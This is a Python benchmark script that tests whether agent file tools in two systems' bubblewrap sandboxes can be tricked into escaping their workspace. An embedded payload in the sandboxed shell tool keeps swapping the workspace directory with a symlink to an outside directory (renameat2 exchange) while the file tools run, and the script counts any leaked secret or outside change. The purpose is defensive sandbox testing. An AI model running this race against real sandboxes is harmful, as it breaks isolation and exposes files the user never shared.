"""`python -m bench.reliability.exchange`: a sandboxed command swaps a directory for a link while file tools work in it.

Run it with the interpreter that has the system, from the root of this repository:

    python -m bench.reliability.exchange --system plait --tries 100000
    PYTHONPATH=. /somewhere/agentknit/bin/python -m bench.reliability.exchange --system agentknit --tries 100000

Both have a `BubblewrapToolExecutor` over a `SandboxPolicy`, called alike. The command runs in its shell tool, inside
the sandbox, and exchanges the directory `place` with a link to a directory outside (`renameat2`) as fast as it can.
The file tools read, write, edit, and make directories in `place` meanwhile. A try *escapes* when it tells what the
file outside holds, or when something outside was made or changed. Needs Linux with bubblewrap.
"""

from __future__ import annotations

import argparse
import importlib
import json
import os
import shutil
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable, Sequence
from importlib.metadata import version
from pathlib import Path
from typing import Any, Final

SECRET: Final = "what only the user may read"
SWAPS: Final = """
import ctypes, os, sys
libc = ctypes.CDLL(None)
number = {"x86_64": 316, "aarch64": 276}[os.uname().machine]
os.symlink(sys.argv[1], "link")
open("ready", "w").close()
while not os.path.exists("enough"):
    for _ in range(100):
        libc.syscall(number, -100, ctypes.c_char_p(b"place"), -100, ctypes.c_char_p(b"link"), 2)
"""
FUNCTIONS: Final = {"read": "t_read", "write": "t_write", "edit": "t_update", "shell": "t_run"}
_SECONDS: Final = 3_600


class Attacked:
    """A workspace with a directory outside beside it, and the executor of a system over it."""

    def __init__(self, system: str, folder: Path) -> None:
        self.workspace, self.outside = folder / "workspace", folder / "outside"
        for place, text in ((self.workspace / "place", "inside"), (self.outside, SECRET)):
            place.mkdir(parents=True)
            (place / "file").write_text(f"{text}\n")
        self.inside = os.open(self.workspace / "place", os.O_RDONLY | os.O_DIRECTORY)
        library = importlib.import_module(system)
        policy = library.SandboxPolicy(self.workspace, timeout_seconds=_SECONDS)
        self.executor = library.BubblewrapToolExecutor(policy)

    def call(self, name: str, **arguments: object) -> str:
        """Have a call executed; return what the model would be told."""
        entry = {"python_function": FUNCTIONS[name], "param_map": {}}
        try:
            return str(self.executor.execute(name, arguments, entry, session={"session_id": "s"})[0])
        except Exception as error:  # boundary: what a system raises is its way to refuse
            return f"ERROR: {type(error).__name__}"

    def has_leaked(self, said: str) -> bool:
        """Say whether a try has told, brought in or changed what is outside; all of it is undone."""
        held = (self.outside / "file").read_text()
        is_changed = held != f"{SECRET}\n" or os.listdir(self.outside) != ["file"]
        is_brought_in = SECRET in said and SECRET in self.held_inside()
        if is_changed:
            for path in self.outside.iterdir():
                shutil.rmtree(path) if path.is_dir() else path.unlink()
            (self.outside / "file").write_text(f"{SECRET}\n")
        if is_changed or is_brought_in:
            self.held_inside("inside\n")
        return is_changed or SECRET in said

    def held_inside(self, text: str | None = None) -> str:
        """Return what the file inside holds, wherever its directory is just now; or give it another content."""
        flags = os.O_RDONLY if text is None else os.O_WRONLY | os.O_CREAT | os.O_TRUNC
        with open(
            "file", "r" if text is None else "w", opener=lambda n, _: os.open(n, flags, dir_fd=self.inside)
        ) as file:
            if text is None:
                return file.read()
            file.write(text)
            return text


def tries_of(attacked: Attacked, turn: int) -> Sequence[tuple[str, Callable[[], str]]]:
    """Return one of each kind of try."""
    call, made = attacked.call, f"place/made-{turn % 7}"
    old, new = ("i", "I") if turn % 2 == 0 else ("I", "i")
    return (
        ("read", lambda: call("read", path="place/file")),
        ("write", lambda: call("write", path=made, content="x")),
        ("edit", lambda: call("edit", path="place/file", old=old, new=new)),
        ("make directories", lambda: call("write", path=f"{made}-folder/deep/file", content="x")),
        ("read again", lambda: call("read", path="place/../place/file")),
    )


def attack(system: str, folder: Path, tries: int) -> dict[str, Any]:
    """Run the race; return the number of tries, of refusals and of escapes of each kind."""
    attacked = Attacked(system, folder)
    command = f"/usr/bin/python3 -c '{SWAPS}' {attacked.outside}"
    swapping = threading.Thread(target=lambda: attacked.call("shell", command=command), daemon=True)
    swapping.start()
    while not (attacked.workspace / "ready").exists():
        time.sleep(0.01)
        if not swapping.is_alive():
            raise SystemExit(f"{system}: the sandboxed command did not run: {attacked.call('shell', command=command)}")
    made, refused, escaped = 0, 0, Counter[str]()
    try:
        for turn in range(tries // 5):
            for kind, attempt in tries_of(attacked, turn):
                said = attempt()
                made += 1
                refused += said.startswith("ERROR")
                escaped[kind] += attacked.has_leaked(said)
    finally:
        (attacked.workspace / "enough").touch()
        swapping.join(10)
    return {"tries": made, "refused": refused, "escaped": escaped.total(), "by kind": dict(escaped)}


def main(arguments: Sequence[str] | None = None) -> int:
    """Attack a system and print what came of it."""
    parser = argparse.ArgumentParser(
        prog="bench.reliability.exchange", description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--system", choices=("plait", "agentknit"), required=True)
    parser.add_argument("--tries", type=int, default=100_000)
    options = parser.parse_args(arguments)
    began_s = time.monotonic()
    with tempfile.TemporaryDirectory(prefix="exchange-") as folder:
        told = attack(options.system, Path(folder).resolve(), options.tries)
    seconds = time.monotonic() - began_s
    print(f"{options.system} {version(options.system)}: {json.dumps(told)} ({seconds:.0f} s)", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
